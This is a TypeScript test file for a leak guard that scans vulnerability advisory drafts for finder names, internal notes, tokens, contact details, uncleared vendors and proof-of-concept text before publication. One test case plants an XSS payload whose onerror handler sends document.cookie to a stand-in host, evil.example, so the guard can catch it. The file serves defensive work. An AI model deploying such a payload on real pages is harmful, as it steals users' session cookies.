import { describe, it, expect } from 'vitest';
import type { AdvisoryDraft } from '../model/advisory-draft';
import { runLeakGuard } from './leak-guard';
import { renderAdvisory, renderFiles, type RenderOptions } from './render';
import { sampleDraft } from './testing/sample-draft';

const renders: RenderOptions[] = [
  { format: 'csaf', lang: 'ja' },
  { format: 'csaf', lang: 'en' },
  { format: 'cve' },
  { format: 'html' },
  { format: 'md' },
];

/** The guard's result for each export; CVE records only print the vulnerability fields. */
const guard = (draft: AdvisoryDraft) =>
  renders.map((options) => {
    const files = renderFiles(draft, options);
    if (!files.ok) throw new Error(files.error.message);
    return runLeakGuard(draft, files.value);
  });

const plant = (mutate: (d: AdvisoryDraft) => void): AdvisoryDraft => {
  const d = sampleDraft();
  mutate(d);
  return d;
};

describe('leak guard', () => {
  it('passes a clean draft in every format', () => {
    for (const result of guard(sampleDraft())) {
      expect(result.findings).toEqual([]);
      expect(result.ok).toBe(true);
    }
  });

  const cases: {
    name: string;
    code: string;
    field: string;
    excerpt: RegExp;
    mutate: (d: AdvisoryDraft) => void;
  }[] = [
    {
      name: 'finder identity without consent (real name in the description)',
      code: 'finder-identity',
      field: 'description.en',
      excerpt: /kenji kobayashi/,
      mutate: (d) => {
        d.leakGuardContext.finders.push({ realName: 'Kenji Kobayashi', emails: [], contacts: [] });
        d.description.en += ' Reported by Kenji Kobayashi.';
      },
    },
    {
      name: 'finder identity: a credit without consent is never printed, but its name in text is caught',
      code: 'finder-identity',
      field: 'impact.ja',
      excerpt: /匿名の研究者k/,
      mutate: (d) => {
        d.credits.push({
          id: 'c2',
          role: 'finder',
          consent: false,
          name: { ja: '匿名の研究者K', en: 'Researcher K' },
        });
        d.impact.ja += '（匿名の研究者K による検証）';
      },
    },
    {
      name: 'internal note copied in part',
      code: 'internal-note',
      field: 'solution.en',
      excerpt: /qa team skipped the security review/,
      mutate: (d) => {
        d.solution.en += ' Note: their QA team skipped the security review this quarter.';
      },
    },
    {
      name: 'PoC text',
      code: 'poc',
      field: 'vulnerabilities[0].description.en',
      excerpt: /onerror/,
      mutate: (d) => {
        d.vulnerabilities[0]!.description.en +=
          ' Payload: `<img src=x onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">`';
      },
    },
    {
      name: 'attachment content',
      code: 'attachment',
      field: 'overview.en',
      excerpt: /7f3a9c2e51b04d8a/,
      mutate: (d) => {
        d.overview.en += ' The admin session token 7f3a9c2e51b04d8a found in proxy log was valid.';
      },
    },
    {
      name: 'vendor contact address from the case',
      code: 'contact-address',
      field: 'vendors[0].statement.en',
      excerpt: /psirt@example\.jp/,
      mutate: (d) => {
        d.vendors[0]!.statement.en = 'Contact psirt@example.jp for details.';
      },
    },
    {
      name: 'any e-mail address that is not an allowed publisher address',
      code: 'contact-address',
      field: 'workarounds.en',
      excerpt: /someone@elsewhere\.example/,
      mutate: (d) => {
        d.workarounds = { ja: '回避策なし', en: 'Ask someone@elsewhere.example.' };
      },
    },
    {
      name: 'any phone number',
      code: 'contact-address',
      field: 'workarounds.ja',
      excerpt: /03-9876-5432/,
      mutate: (d) => {
        d.workarounds = { ja: 'サポート窓口 03-9876-5432 まで。', en: 'Call support.' };
      },
    },
    {
      name: 'a vendor not cleared for publication, named in text',
      code: 'vendor-not-cleared',
      field: 'overview.ja',
      excerpt: /secret oem corp\./,
      mutate: (d) => {
        d.overview.ja += ' Secret OEM Corp. の製品も影響を受けます。';
      },
    },
    {
      name: 'a vendor row not cleared for publication',
      code: 'vendor-not-cleared',
      field: 'vendors[0].name.en',
      excerpt: /example inc\./,
      mutate: (d) => {
        d.vendors[0]!.clearedForPublication = false;
      },
    },
    {
      name: 'a case above TLP:CLEAR before release',
      code: 'tlp-not-clear',
      field: 'case.tlp',
      excerpt: /TLP:AMBER/,
      mutate: (d) => {
        d.case.tlp = 'AMBER';
      },
    },
  ];

  for (const c of cases) {
    it(`catches and names ${c.name}`, () => {
      const results = guard(plant(c.mutate));
      // HTML and Markdown print every field in both languages: both must refuse.
      for (const result of results.slice(3)) {
        expect(result.ok).toBe(false);
        const hit = result.findings.find((f) => f.code === c.code && f.field === c.field);
        expect(hit, JSON.stringify(result.findings)).toBeDefined();
        expect(hit?.excerpt).toMatch(c.excerpt);
      }
      // The CSAF document in the field's language carries it too.
      const lang = c.field.endsWith('.ja') ? 0 : 1;
      expect(results[lang]!.findings.map((f) => f.code)).toContain(c.code);
    });
  }

  it('lets an unreachable developer be named when the publication rule was applied', () => {
    const draft = plant((d) => {
      d.vendors[0]!.status = 'unreachable';
      d.vendors[0]!.clearedForPublication = false;
      d.vendors[0]!.unreachableNamePublished = true;
      d.leakGuardContext.unclearedVendorNames.push('Example Inc.');
    });
    for (const result of guard(draft)) expect(result.findings).toEqual([]);
  });

  it('allows a released advisory from a case that is still AMBER', () => {
    const draft = plant((d) => {
      d.case.tlp = 'AMBER';
      d.status = 'final';
      d.revisions = [
        {
          number: '1',
          date: '2026-11-24T03:00:00Z',
          summary: { ja: '初版公開', en: 'Initial release' },
        },
      ];
    });
    for (const result of guard(draft)) expect(result.ok).toBe(true);
  });

  it('lets a finding marked as intended pass, and reports it as overridden', () => {
    const leaky = plant((d) => {
      d.workarounds = { ja: '連絡先 03-9876-5432', en: 'Call 03-9876-5432' };
    });
    const first = renderAdvisory(leaky, { format: 'html', lang: 'en' });
    expect(first.ok).toBe(false);
    if (first.ok || first.error.code !== 'leak-guard')
      throw new Error('expected a leak-guard refusal');
    const fingerprint = first.error.findings[0]!.fingerprint;
    leaky.leakGuardOverrides.push({ fingerprint, reason: 'public support line of the vendor' });
    const second = renderAdvisory(leaky, { format: 'html', lang: 'en' });
    expect(second.ok).toBe(true);
    if (second.ok)
      expect(second.value.leakGuard.overridden).toMatchObject([
        { fingerprint, reason: 'public support line of the vendor' },
      ]);
  });

  it('finds a Japanese internal note copied in part, across full-width forms', () => {
    const draft = plant((d) => {
      d.leakGuardContext.internalNotes.push(
        '担当者は、ＡＢＣ社の修正版の公開が来年三月にずれ込む可能性があると非公式に述べている。',
      );
      d.impact.ja += 'ABC社の修正版の公開が来年三月にずれ込む可能性があります。';
    });
    const hit = guard(draft)[3]!.findings.find((f) => f.code === 'internal-note');
    expect(hit).toMatchObject({ field: 'impact.ja' });
    expect(hit?.excerpt).toContain('abc社の修正版の公開が来年三月にずれ込む');
  });

  it('finds a finder name written without the space or in the other order', () => {
    const draft = plant((d) => {
      d.leakGuardContext.finders.push({ realName: '鈴木 次郎', emails: [], contacts: [] });
      d.leakGuardContext.finders.push({ realName: 'Kenji Kobayashi', emails: [], contacts: [] });
      d.impact.ja += '鈴木次郎氏が確認しました。';
      d.impact.en += ' Confirmed by Kobayashi Kenji.';
    });
    const md = guard(draft)[4]!;
    expect(md.findings.filter((f) => f.code === 'finder-identity').map((f) => f.excerpt)).toEqual([
      '鈴木次郎',
      'kobayashi kenji',
    ]);
  });

  it('does not mistake dates, versions, CVE ids and vectors for phone numbers', () => {
    const draft = plant((d) => {
      d.description.en +=
        ' Versions 2026.10.15, 1.2.3-4567 and build 20261115 (CVE-2026-1234567) on 2026-11-24.';
    });
    for (const result of guard(draft)) expect(result.findings).toEqual([]);
  });
});
